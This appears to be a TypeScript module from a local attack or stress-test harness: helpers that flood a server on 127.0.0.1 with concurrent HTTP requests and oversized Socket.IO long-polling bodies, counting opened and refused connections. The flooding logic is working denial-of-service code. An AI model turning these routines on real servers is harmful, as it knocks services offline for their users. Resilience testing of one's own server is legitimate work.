import { Agent, request } from 'node:http';
import { setTimeout as sleep } from 'node:timers/promises';
import type { AttackContext } from './attack.js';

/** A request of an attacker. */
export interface AttackRequest {
  readonly method: string;
  readonly path: string;
  readonly body?: string;
  readonly headers?: Readonly<Record<string, string>>;
}

const agent = new Agent({ keepAlive: true, maxSockets: Infinity });

/** Sends one request and reads the answer. Resolves to status 0 if there is none. */
export function ask(
  context: AttackContext,
  { method, path, body, headers = {} }: AttackRequest,
): Promise<{ readonly status: number; readonly text: string }> {
  const { port, localAddress } = context.target;
  return new Promise((resolve) => {
    const none = () => resolve({ status: 0, text: '' });
    const sent = request({
      host: '127.0.0.1',
      port,
      localAddress,
      agent,
      method,
      path,
      headers: {
        ...(body !== undefined && {
          'content-type': 'text/plain;charset=UTF-8',
          'content-length': String(Buffer.byteLength(body)),
        }),
        ...headers,
      },
    });
    sent.setTimeout(20_000, () => sent.destroy());
    sent.on('error', none);
    sent.on('response', (response) => {
      const status = response.statusCode ?? 0;
      let text = '';
      response.on('data', (data: Buffer) => {
        if (text.length < 4096) text += data.toString('latin1');
      });
      response.on('end', () => resolve({ status, text }));
      response.on('error', none);
    });
    sent.end(body);
    context.counts.sentBytes += 200 + path.length + (body?.length ?? 0);
  });
}

/** Sends requests until the end, so many at a time. */
export async function requestFlood(
  context: AttackContext,
  atATime: number,
  make: (round: number) => AttackRequest,
): Promise<void> {
  let round = 0;
  await Promise.all(
    Array.from({ length: atATime }, async () => {
      while (Date.now() < context.endsAt) {
        const { status } = await ask(context, make(round++));
        if (status >= 200 && status < 400) context.counts.opened++;
        else {
          context.counts.refused++;
          if (status === 0) await sleep(2);
        }
      }
    }),
  );
}

/** A client of HTTP long-polling that never reads unless told to. Undefined if it is refused. */
export async function openPolling(
  context: AttackContext,
  query = '',
): Promise<{ post(body: string): Promise<number>; path: string } | undefined> {
  const opened = await ask(context, {
    method: 'GET',
    path: `/socket.io/?EIO=4&transport=polling${query}`,
  });
  const sid = /"sid":"([^"]+)"/.exec(opened.text)?.[1];
  if (sid === undefined) {
    context.counts.refused++;
    await sleep(2);
    return undefined;
  }
  context.counts.opened++;
  const path = `/socket.io/?EIO=4&transport=polling&sid=${sid}`;
  return {
    path,
    post: async (body) => (await ask(context, { method: 'POST', path, body })).status,
  };
}

/** Posts one body of many packets, on ever new transports, which are read once to join. */
export async function pollingFlood(
  context: AttackContext,
  { joins, before = [], body }: { joins: boolean; before?: readonly string[]; body: string },
): Promise<void> {
  await Promise.all(
    Array.from({ length: 2 }, async () => {
      while (Date.now() < context.endsAt) {
        const polling = await openPolling(context);
        if (polling === undefined) continue;
        if (joins) {
          await polling.post(`40${JSON.stringify({ token: context.token })}`);
          await ask(context, { method: 'GET', path: polling.path });
        }
        for (const packets of before) await polling.post(packets);
        for (let n = 0; n < 20 && Date.now() < context.endsAt; n++) {
          if ((await polling.post(body)) === 200) continue;
          context.counts.closed++;
          break;
        }
      }
    }),
  );
}

/** Packets of long-polling in one body, of at most a million bytes. */
export function pollingBody(times: number, ...packets: readonly string[]): string {
  const body = Array.from({ length: times }, () => packets.join('\x1e')).join('\x1e');
  return body.length < 999_000 ? body : body.slice(0, body.lastIndexOf('\x1e', 999_000));
}
